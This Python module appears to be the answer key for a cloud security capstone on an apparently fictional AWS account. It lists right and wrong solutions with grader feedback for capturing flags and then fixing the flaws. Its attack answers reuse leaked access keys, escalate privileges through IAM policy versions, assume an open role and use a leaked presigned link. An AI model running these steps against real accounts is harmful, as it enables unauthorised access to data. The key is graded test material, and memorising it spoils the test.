"""Answers to the second half of the capstone: five flags found, five doors closed."""

from .answers import Right, Wrong

NOT_ABOUT_PERMISSIONS = {
    "find_the_public_prefix",
    "find_the_key_in_the_notebook",
    "climb_by_policy",
    "take_the_open_role",
    "use_the_old_link",
}

TEAM, SITE = "arn:aws:s3:::orange-team", "arn:aws:s3:::orange-website"
USER, ROLE = "arn:aws:iam::123456789012:user/", "arn:aws:iam::123456789012:role/"
BLUE = f'{{"AWS": "{USER}blue"}}'
ACCOUNT = '{"AWS": "arn:aws:iam::123456789012:root"}'
ARCHIVE = "archive/guests-2025.csv"
GET, LIST = '"s3:GetObject"', '"s3:ListBucket"'
PUT_SITE = 's3.put_bucket_policy("orange-website", document({}))'
PUT_TEAM = 's3.put_bucket_policy("orange-team", document(*s3.list_statements("orange-team"), {}))'
WORK = (
    'document(*client.get_policy_version(PolicyArn=arn, VersionId="v2")["PolicyVersion"]["Document"]["Statement"][:2]'
)
INLINE = 'iam.put_inline_policy("{}", "more", document({}))'
SESSION = (
    "found = dict(line.strip().split('=', 1) for line in notebook['cells'][2]['outputs'][0]['text'])\n"
    "session = boto3.Session(found['AWS_ACCESS_KEY_ID'], found['AWS_SECRET_ACCESS_KEY'], region_name='us-east-1')\n"
)
TAKE = (
    f'taken = intern.client("sts").assume_role(RoleArn="{ROLE}treasury", RoleSessionName="visit")["Credentials"]\n'
    'session = boto3.Session(taken["AccessKeyId"], taken["SecretAccessKey"], {}, region_name="us-east-1")\n'
    'flag_4 = read(session.client("s3"), "orange-team", "pay/2026-11.txt")'
)
FLAG_2 = 'read(intern.client("s3"), "orange-team", "seating/to-do.txt")'
LINK = 'link = re.search(r"http\\S+", chat).group()\n'
KEYS = 'client.list_access_keys(UserName="{}")["AccessKeyMetadata"]'
OFF = 'client.update_access_key(UserName="{}", AccessKeyId={}[{}]["AccessKeyId"], Status="Inactive")'
NEW_VERSION = "client.create_policy_version(PolicyArn=arn, PolicyDocument=json.dumps({}), SetAsDefault={})"


def trust(principal, **more):
    """The call that writes the trust policy of the role treasury."""
    who = f'{{"Effect": "Allow", "Principal": {principal}, "Action": "sts:AssumeRole", **{more}}}'
    return f'client.update_assume_role_policy(RoleName="treasury", PolicyDocument=json.dumps(document({who})))'


def off(user, number):
    return OFF.format(user, KEYS.format(user), number)


WRONG = {
    "find_the_public_prefix": {
        "the names alone": Wrong(
            'flag_1 = [item["Key"] for item in stranger.list_objects_v2(Bucket="orange-website")["Contents"]]',
            ("`flag_1` is `['backup/README.txt'", "A flag looks like"),
        ),
        "AWS's answer in place of the text": Wrong(
            'flag_1 = stranger.get_object(Bucket="orange-website", Key="backup/README.txt")',
            ("AWS's answer", '`["Body"].read().decode()`'),
        ),
        "a web page": Wrong(
            'flag_1 = read(stranger, "orange-website", "site/index.html")',
            ("The meet-up", "read what is no web page"),
        ),
        "made up": Wrong('flag_1 = "flag{0123456789ab}"', ("There is no such flag",)),
        "another bucket": Wrong(
            'flag_1 = stranger.list_objects_v2(Bucket="orange-team")',
            ("Put the flag into `flag_1`",),
            error="AccessDenied",
            outcome="not attempted",
        ),
    },
    "find_the_key_in_the_notebook": {
        "the key of the documentation": Wrong(
            'session = boto3.Session("AKIAIOSFODNN7EXAMPLE", "wJalr", region_name="us-east-1")\n'
            'session.client("sts").get_caller_identity()',
            ("Put the flag into `flag_2`",),
            error="InvalidClientTokenId",
            outcome="not attempted",
        ),
        "the key in place of the flag": Wrong(
            "flag_2 = ''.join(notebook['cells'][2]['outputs'][0]['text'])", ("holds a key", "the flag is behind it")
        ),
        "the flag before": Wrong(
            'flag_2 = find_flag(read(stranger, "orange-website", "backup/README.txt"))',
            ("That is flag 1", "flag 2 was asked for"),
        ),
        "what is closed to interns": Wrong(
            f'{SESSION}flag_2 = read(session.client("s3"), "orange-team", "board/minutes.txt")',
            ("list what lies where the notebook itself read",),
            error="AccessDenied",
            outcome="not attempted",
        ),
        "the table in place of the notes": Wrong(
            f'{SESSION}flag_2 = read(session.client("s3"), "orange-team", "seating/tables.csv")',
            ("`flag_2` is `'table,seats", "A flag looks like"),
        ),
    },
    "climb_by_policy": {
        "a version that is not in force": Wrong(
            NEW_VERSION.format('document(allow("*", "*"))', False)
            + '\nflag_3 = read(intern.client("s3"), "orange-team", "board/minutes.txt")',
            ("in force",),
            error="AccessDenied",
            outcome="not attempted",
        ),
        "AWS's own policy attached": Wrong(
            'client.attach_user_policy(UserName="intern", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")',
            ("Put another version",),
            error="AccessDenied",
            outcome="not attempted",
        ),
        "the document in place of the flag": Wrong(
            'flag_3 = document(allow("*", "*"))', ("`flag_3` is", "A flag looks like")
        ),
        "the flag before": Wrong(f"flag_3 = {FLAG_2}", ("That is flag 2", "flag 3 was asked for")),
    },
    "take_the_open_role": {
        "the role that trusts the account": Wrong(
            f'intern.client("sts").assume_role(RoleArn="{ROLE}posters", RoleSessionName="visit")',
            ("Find the role whose trust policy",),
            error="AccessDenied",
            outcome="not attempted",
        ),
        "the role of a service": Wrong(
            f'intern.client("sts").assume_role(RoleArn="{ROLE}site-builder", RoleSessionName="visit")',
            ("Find the role whose trust policy",),
            error="AccessDenied",
            outcome="not attempted",
        ),
        "credentials in place of the flag": Wrong(
            TAKE.split("\n")[0] + "\nflag_4 = taken", ("holds credentials", "the flag is behind it")
        ),
        "two of the three strings": Wrong(
            TAKE.format("None"), ("Put the flag",), error="InvalidAccessKeyId", outcome="not attempted"
        ),
        "with the intern's own rights": Wrong(
            'flag_4 = read(intern.client("s3"), "orange-team", "pay/2026-11.txt")',
            ("Find the role",),
            error="AccessDenied",
            outcome="not attempted",
        ),
    },
    "use_the_old_link": {
        "the link in place of what it opens": Wrong(f"{LINK}flag_5 = link", ("`flag_5` is the link", "urlopen")),
        "the address without the signature": Wrong(
            f'{LINK}flag_5 = urllib.request.urlopen(link.partition("?")[0]).read()',
            ("Take the link out of `chat`",),
            error="HTTPError",
            outcome="not attempted",
        ),
        "the flag before": Wrong(
            'flag_5 = read(treasury.client("s3"), "orange-team", "pay/2026-11.txt")',
            ("That is flag 4", "flag 5 was asked for"),
        ),
        "an open answer": Wrong(
            f"{LINK}flag_5 = urllib.request.urlopen(link)", ("AWS's answer, not its text", "read().decode()")
        ),
    },
    "close_the_prefix": {
        "too broad: with a list of the pages": Wrong(
            PUT_SITE.format(
                f'allow({GET}, "{SITE}/site/*", Principal="*"), allow({LIST}, "{SITE}", Principal="*", '
                'Condition={"StringLike": {"s3:prefix": "site/*"}})'
            ),
            ("list `site/`",),
        ),
        "too broad: pages that strangers delete": Wrong(
            PUT_SITE.format(f'allow(["s3:GetObject", "s3:DeleteObject"], "{SITE}/site/*", Principal="*")'),
            ("A stranger can delete pages",),
        ),
        "too broad: a prefix without its slash": Wrong(
            PUT_SITE.format(f'allow({GET}, "{SITE}/site*", Principal="*")'), ("`site-old.txt`",)
        ),
        "too broad: whatever ends in html": Wrong(
            PUT_SITE.format(f'allow({GET}, ["{SITE}/*.html", "{SITE}/site/*"], Principal="*")'), ("ends in `.html`",)
        ),
        "too narrow: pages in html alone": Wrong(
            PUT_SITE.format(f'allow({GET}, "{SITE}/site/*.html", Principal="*")'), ("`site/map.png`",)
        ),
        "too broad: a deny on the list for everybody": Wrong(
            PUT_SITE.format(f'allow({GET}, "{SITE}/site/*", Principal="*"), deny({LIST}, "{SITE}", Principal="*")'),
            ("Blue cannot list", "no deny is needed"),
        ),
        "too broad: all but what one knows": Wrong(
            PUT_SITE.format(
                f'allow({GET}, "{SITE}/*", Principal="*"), deny({GET}, "{SITE}/backup/*", Principal="*", '
                'Condition={"StringNotEquals": {"aws:PrincipalAccount": "123456789012"}})'
            ),
            ("`site-old.txt`",),
        ),
        "too broad: Block Public Access": Wrong(
            'client = boto3.client("s3")\nclient.put_public_access_block(Bucket="orange-website", '
            'PublicAccessBlockConfiguration={"BlockPublicAcls": True, "IgnorePublicAcls": True, '
            '"BlockPublicPolicy": True, "RestrictPublicBuckets": True})',
            ("Nobody can read the website any more", "Block Public Access is on", "delete_public_access_block"),
        ),
        "too broad: no policy": Wrong(
            'boto3.client("s3").delete_bucket_policy(Bucket="orange-website")',
            ("Nobody can read the website any more", "below `site/`"),
        ),
        "too broad: a deny for everybody": Wrong(
            PUT_SITE.format(f'allow({GET}, "{SITE}/*", Principal="*"), deny({GET}, "{SITE}/backup/*", Principal="*")'),
            ("Blue cannot read", "catches Blue too", "no deny is needed"),
        ),
        "too broad: the backup is deleted": Wrong(
            'for key in s3.list_keys("orange-website", "backup/"):\n'
            '    boto3.client("s3").delete_object(Bucket="orange-website", Key=key)',
            ("`backup/seating.ipynb` is gone", "keeps the copy", "leave the things"),
        ),
        "too broad: the pages of today": Wrong(
            PUT_SITE.format(f'allow({GET}, ["{SITE}/site/index.html", "{SITE}/site/dates.html"], Principal="*")'),
            ("The pages of today are public", "Next week", "`/*`"),
        ),
        "too narrow: the file is renamed": Wrong(
            'client = boto3.client("s3")\nclient.copy_object(Bucket="orange-website", Key="backup/x7.ipynb", '
            'CopySource="orange-website/backup/seating.ipynb")\n'
            'client.delete_object(Bucket="orange-website", Key="backup/seating.ipynb")',
            ("`backup/seating.ipynb` is gone",),
        ),
        "too narrow: only the list is closed": Wrong(
            PUT_SITE.format(f'allow({GET}, "{SITE}/*", Principal="*")'),
            ("can still read `backup/README.txt`", "Hidden is not closed", "site/*"),
        ),
        "too narrow: the list stays open": Wrong(
            PUT_SITE.format(f'allow([{GET}, {LIST}], ["{SITE}", "{SITE}/site/*"], Principal="*")'),
            ("can still list the whole bucket", "needs no `s3:ListBucket`"),
        ),
        "too narrow: for those who come from our page": Wrong(
            PUT_SITE.format(
                f'allow({GET}, "{SITE}/site/*", Principal="*"), allow({GET}, "{SITE}/backup/*", Principal="*", '
                'Condition={"StringLike": {"aws:Referer": "https://team.example/*"}})'
            ),
            ("can still read `backup/README.txt`, by saying what a condition asks for", "site/*"),
        ),
        "too narrow: only the notebook is closed": Wrong(
            PUT_SITE.format(f'allow({GET}, ["{SITE}/site/*", "{SITE}/backup/*.txt"], Principal="*")'),
            ("can still read `backup/README.txt`",),
        ),
        "strangers may write": Wrong(
            PUT_SITE.format(f'allow([{GET}, "s3:PutObject"], "{SITE}/site/*", Principal="*")'),
            ("A stranger can write pages", "alone"),
        ),
    },
    "burn_the_key": {
        "too narrow: a new key beside it": Wrong(
            'client.create_access_key(UserName="intern")', ("has a new key", "still works", "does not end the old one")
        ),
        "too narrow: the notebook is deleted": Wrong(
            'boto3.client("s3").delete_object(Bucket="orange-website", Key="backup/seating.ipynb")',
            ("The notebook is gone, and the key still works", "Whoever read", "Deactivate"),
        ),
        "too broad: the user is deleted": Wrong(
            f"for key in {KEYS.format('intern')}:\n"
            '    client.delete_access_key(UserName="intern", AccessKeyId=key["AccessKeyId"])\n'
            f'client.detach_user_policy(UserName="intern", PolicyArn="arn:aws:iam::123456789012:policy/intern-work")\n'
            'client.remove_user_from_group(UserName="intern", GroupName="team")\n'
            'client.delete_user(UserName="intern")',
            ("The user `intern` is gone", "not the intern"),
        ),
        "too broad: the user may do nothing": Wrong(
            INLINE.format("intern", 'deny("*", "*")'),
            ("cannot work below `seating/` any more", "still signs", "Only the key has to go"),
        ),
        "another user's key": Wrong(off("reminders", 0), ("`reminders` is off", "has not leaked here")),
        "the user, at once": Wrong(
            'client.delete_user(UserName="intern")',
            ("still works",),
            error="DeleteConflict",
            outcome="not attempted",
        ),
    },
    "take_the_ladder_away": {
        "too broad: the whole list": Wrong(
            'kept = client.get_policy_version(PolicyArn=arn, VersionId="v2")["PolicyVersion"]["Document"]\n'
            'work = kept["Statement"]\n'
            f'iam.attach_managed_policy("intern", "intern-work", document(work[1], allow({LIST}, "{TEAM}")))',
            ("can list the whole bucket", "s3:prefix"),
        ),
        "too narrow: no new versions": Wrong(
            INLINE.format("intern", 'deny("iam:CreatePolicyVersion", "*")'),
            ("put an old version in force", "`v1` allows it", "`iam:SetDefaultPolicyVersion`"),
        ),
        "too narrow: no old versions": Wrong(
            INLINE.format("intern", 'deny("iam:SetDefaultPolicyVersion", "*")'),
            ("can still write the next version", "can say anything"),
        ),
        "too narrow: the old version is deleted": Wrong(
            'client.delete_policy_version(PolicyArn=arn, VersionId="v1")',
            ("can still write the next version", "`iam:CreatePolicyVersion`"),
        ),
        "too narrow: a version that is not in force": Wrong(
            NEW_VERSION.format(f"{WORK})", False), ("`v2` is still in force", "`SetAsDefault=True`")
        ),
        "too narrow: reading as well": Wrong(
            'kept = client.get_policy_version(PolicyArn=arn, VersionId="v2")["PolicyVersion"]["Document"]\n'
            'work = kept["Statement"]\n'
            f'iam.attach_managed_policy("intern", "intern-work", document(work[0], allow("s3:*", "{TEAM}/*")))',
            ("The intern can read `board/minutes.txt`", "no more than `seating/`"),
        ),
        "too narrow: another ladder": Wrong(
            f'iam.attach_managed_policy("intern", "intern-work", {WORK}, allow("iam:PutUserPolicy", "*")))',
            ("The intern can do `iam:PutUserPolicy`", "another ladder"),
        ),
        "too narrow: the stranger's version": Wrong(
            NEW_VERSION.format('document(allow("*", "*"))', True),
            ("allows far more than the seating", "A stranger", "the seating alone"),
        ),
        "too broad: the policy is taken off": Wrong(
            'client.detach_user_policy(UserName="intern", PolicyArn=arn)',
            ("cannot do the seating any more", "first two statements"),
        ),
        "too broad: reading alone": Wrong(
            f'iam.attach_managed_policy("intern", "intern-work", document(allow("s3:GetObject", "{TEAM}/seating/*")))',
            ("cannot do the seating any more", "listing, reading and writing"),
        ),
    },
    "close_the_role": {
        "too narrow: those whom one knows are held back": Wrong(
            f'who = [{{"Effect": "Deny", "Principal": {{"AWS": ["{USER}intern", "{USER}green"]}}, '
            '"Action": "sts:AssumeRole"}]\n'
            'old = client.get_role(RoleName="treasury")["Role"]["AssumeRolePolicyDocument"]["Statement"]\n'
            "text = json.dumps(document(*old, *who))\n"
            'client.update_assume_role_policy(RoleName="treasury", PolicyDocument=text)',
            ("`reminders` can take the role", "Name who may"),
        ),
        "too narrow: the account": Wrong(
            trust(ACCOUNT), ("Green can still take the role", "The account as principal", "Blue's ARN")
        ),
        "too narrow: a deny for the intern": Wrong(
            INLINE.format("intern", 'deny("sts:AssumeRole", "*")'),
            ("Green can still take the role", "held back one", "Change the trust policy"),
        ),
        "too narrow: an external id": Wrong(
            trust('{"AWS": "*"}', Condition={"StringEquals": {"sts:ExternalId": "november"}}),
            ("The intern can still take the role", "no secret", "`Principal`"),
        ),
        "too narrow: without the condition": Wrong(
            trust('{"AWS": "*"}'), ("The intern can still take the role", "nobody else")
        ),
        "too broad: the role is deleted": Wrong(
            'client.delete_role_policy(RoleName="treasury", PolicyName="work")\n'
            'client.delete_role(RoleName="treasury")',
            ("The role `treasury` is gone", "Blue does the pay"),
        ),
        "too broad: Orange alone": Wrong(
            trust(f'{{"AWS": "{USER}orange"}}'), ("Blue cannot take the role any more", "user/blue")
        ),
        "too broad: the role may do nothing": Wrong(
            'client.delete_role_policy(RoleName="treasury", PolicyName="work")',
            ("cannot read the pay any more", "who may take it"),
        ),
        "too broad: with MFA alone": Wrong(
            trust(BLUE, Condition={"Bool": {"aws:MultiFactorAuthPresent": "true"}}),
            ("Blue cannot take the role any more", "no MFA device"),
        ),
        "too broad: Green may take nothing": Wrong(
            'client.delete_user_policy(UserName="green", PolicyName="work")\n' + trust(BLUE),
            ("Green cannot take the role `posters`",),
        ),
        "a group as principal": Wrong(
            trust('{"AWS": "arn:aws:iam::123456789012:group/team"}'),
            ("is as it was",),
            error="MalformedPolicyDocument",
            outcome="not attempted",
        ),
    },
    "kill_the_link": {
        "too narrow: no signatures in addresses": Wrong(
            PUT_TEAM.format(
                f'deny({GET}, "{TEAM}/archive/*", Principal="*", '
                'Condition={"StringEquals": {"s3:authType": "REST-QUERY-STRING"}})'
            ),
            ("The link is dead", "still works", "the laptop is sold"),
        ),
        "too narrow: the chat is deleted": Wrong(
            'boto3.client("s3").delete_object(Bucket="orange-team", Key="pay/chat.txt")',
            ("The chat is gone, and the link still works", "the key that signed it"),
        ),
        "too narrow: Block Public Access": Wrong(
            'boto3.client("s3").put_public_access_block(Bucket="orange-team", PublicAccessBlockConfiguration={'
            '"BlockPublicAcls": True, "IgnorePublicAcls": True, "BlockPublicPolicy": True, '
            '"RestrictPublicBuckets": True})',
            ("The link still works", "the key that signed it"),
            outcome="not attempted",
        ),
        "too narrow: no strangers": Wrong(
            PUT_TEAM.format(
                f'deny("s3:*", "{TEAM}/*", Principal="*", Condition={{"Null": {{"aws:PrincipalArn": "true"}}}})'
            ),
            ("The link still works", "no public access", "the user who signed it"),
        ),
        "the program's key": Wrong(off("reminders", 0), ("key of the program", "still works", "stands in the link")),
        "too broad: the list is deleted": Wrong(
            f'boto3.client("s3").delete_object(Bucket="orange-team", Key="{ARCHIVE}")',
            (f"`{ARCHIVE}` is gone", "not the list"),
        ),
        "too broad: the user may read nothing": Wrong(
            'client.delete_user_policy(UserName="reminders", PolicyName="work")',
            ("`reminders` cannot read the archive", "End one key"),
        ),
        "too broad: both keys": Wrong(
            "\n".join(off("reminders", number) for number in (0, 1)), ("key of the program", "stands in the link")
        ),
        "too broad: a deny for everybody but the program": Wrong(
            PUT_TEAM.format(
                f'deny({GET}, "{TEAM}/archive/*", Principal="*", '
                f'Condition={{"ArnNotEquals": {{"aws:PrincipalArn": "{USER}reminders"}}}})'
            ),
            ("Blue cannot read the archive any more", "End one key"),
        ),
        "the intern's key": Wrong(off("intern", 0), ("The link still works",), outcome="not attempted"),
    },
}

RIGHT = {
    "find_the_public_prefix": {
        "with the command": "flag_1 = !aws s3 cp s3://orange-website/backup/README.txt - --no-sign-request",
        "the whole text": 'flag_1 = read(stranger, "orange-website", "backup/README.txt")',
    },
    "find_the_key_in_the_notebook": {
        "searched for in all of it": (
            "text = json.dumps(notebook)\n"
            "key_id = re.search(r'KEY_ID=(\\w+)', text).group(1)\n"
            "secret = re.search(r'ACCESS_KEY=([\\w+/]+)', text).group(1)\n"
            "session = boto3.Session(key_id, secret, region_name='us-east-1')\n"
            "flag_2 = find_flag(read(session.client('s3'), 'orange-team', 'seating/to-do.txt'))"
        ),
    },
    "climb_by_policy": {
        "an old version": (
            'client.set_default_policy_version(PolicyArn=arn, VersionId="v1")\n'
            'flag_3 = read(intern.client("s3"), "orange-team", "board/minutes.txt")'
        ),
        "a version for that file": (
            NEW_VERSION.format(f'document(*rights["Statement"], allow({GET}, "{TEAM}/board/minutes.txt"))', True)
            + '\nflag_3 = read(intern.client("s3"), "orange-team", "board/minutes.txt")'
        ),
    },
    "take_the_open_role": {"by its name": TAKE.format('taken["SessionToken"]')},
    "use_the_old_link": {"as bytes": f"{LINK}flag_5 = urllib.request.urlopen(link).read()"},
    "close_the_prefix": {
        "two statements": PUT_SITE.format(
            f'allow({GET}, "{SITE}/site/*", Principal="*"), '
            f'allow("s3:GetObjectVersion", "{SITE}/site/*", Principal={BLUE})'
        ),
    },
    "burn_the_key": {
        "deleted": f'old = {KEYS.format("intern")}[0]\nclient.delete_access_key(UserName="intern", '
        'AccessKeyId=old["AccessKeyId"])',
        "replaced": Right(f'{off("intern", 0)}\nclient.create_access_key(UserName="intern")', ("with a new one",)),
    },
    "take_the_ladder_away": {
        "with the old versions kept": Right(
            f'iam.attach_managed_policy("intern", "intern-work", {WORK}))', ("`v1`, `v2`", "Delete them")
        ),
        "a deny": INLINE.format("intern", 'deny("iam:*", "*")'),
        "another policy": (
            f'work = {WORK})\nclient.detach_user_policy(UserName="intern", PolicyArn=arn)\n'
            'iam.put_inline_policy("intern", "seating", work)'
        ),
        "a boundary": (
            f'limit = client.create_policy(PolicyName="limit", PolicyDocument=json.dumps({WORK})))\n'
            'client.put_user_permissions_boundary(UserName="intern", PermissionsBoundary=limit["Policy"]["Arn"])'
        ),
    },
    "close_the_role": {
        "the account, and a condition": trust(ACCOUNT, Condition={"ArnEquals": {"aws:PrincipalArn": f"{USER}blue"}}),
        "the account, and Green's policy narrowed": (
            f'iam.put_inline_policy("green", "work", document(allow("sts:AssumeRole", "{ROLE}posters")))\n'
            + trust(ACCOUNT)
        ),
    },
    "kill_the_link": {
        "deleted": (
            'signer = re.search(r"X-Amz-Credential=(\\w+)", chat).group(1)\n'
            'client.delete_access_key(UserName="reminders", AccessKeyId=signer)'
        ),
        "both, the key and addresses": off("reminders", 1)
        + "\n"
        + PUT_TEAM.format(
            f'deny({GET}, "{TEAM}/archive/*", Principal="*", '
            'Condition={"StringEquals": {"s3:authType": "REST-QUERY-STRING"}})'
        ),
    },
}
